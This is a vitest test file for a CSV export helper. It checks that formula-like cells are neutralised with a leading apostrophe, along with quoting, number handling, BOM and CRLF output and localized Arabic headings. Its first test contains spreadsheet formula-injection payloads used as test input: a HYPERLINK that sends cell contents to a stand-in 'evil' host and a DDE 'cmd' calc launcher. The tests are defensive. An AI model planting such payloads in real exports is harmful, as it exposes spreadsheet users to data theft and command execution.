import { describe, expect, it } from "vitest";
import { csvCell, csvTable, toCsv, type CsvColumn } from "./csv";

describe("csv", () => {
  it("defuses text that a spreadsheet would run as a formula, whatever the leading character", () => {
    expect(csvCell('=HYPERLINK("http://evil/?"&A1,"open")')).toBe(`"'=HYPERLINK(""http://evil/?""&A1,""open"")"`);
    expect(csvCell("+1+cmd|' /C calc'!A0")).toBe(`"'+1+cmd|' /C calc'!A0"`);
    expect(csvCell("-2+3")).toBe(`"'-2+3"`);
    expect(csvCell("-")).toBe(`"'-"`);
    expect(csvCell("@SUM(A1)")).toBe(`"'@SUM(A1)"`);
    expect(csvCell("\t=1")).toBe(`"'\t=1"`);
    expect(csvCell("\r=1")).toBe(`"'\r=1"`);
  });

  it("leaves other text as it is, quoted, and numbers bare (a negative figure stays a number)", () => {
    expect(csvCell('مقدمة، "أولى"')).toBe('"مقدمة، ""أولى"""');
    expect(csvCell("a=b")).toBe('"a=b"');
    expect(csvCell(-149.5)).toBe("-149.5");
    expect(csvCell("-149.50")).toBe('"-149.50"');
    expect(csvCell("+20")).toBe('"+20"');
    expect(csvCell(0)).toBe("0");
    expect(csvCell(Number.NaN)).toBe("");
  });

  it("writes a BOM, CRLF line ends and a final CRLF", () => {
    expect(
      toCsv([
        ["COURSE", "RATE"],
        ["=evil", 67],
      ]),
    ).toBe(`\uFEFF"COURSE","RATE"\r\n"'=evil",67\r\n`);
  });

  it("heads a table with each column's text in the reader's language, then a row per item", () => {
    const columns: CsvColumn<{ name: string; lessons: number }>[] = [
      { heading: "name", cell: (r) => r.name },
      { heading: "lessons", cell: (r) => r.lessons },
    ];
    const ar = { name: "الاسم", lessons: "الدروس" };
    expect(csvTable(columns, [{ name: "منى", lessons: 3 }], (key) => ar[key as keyof typeof ar])).toBe(
      `\uFEFF"الاسم","الدروس"\r\n"منى",3\r\n`,
    );
  });
});
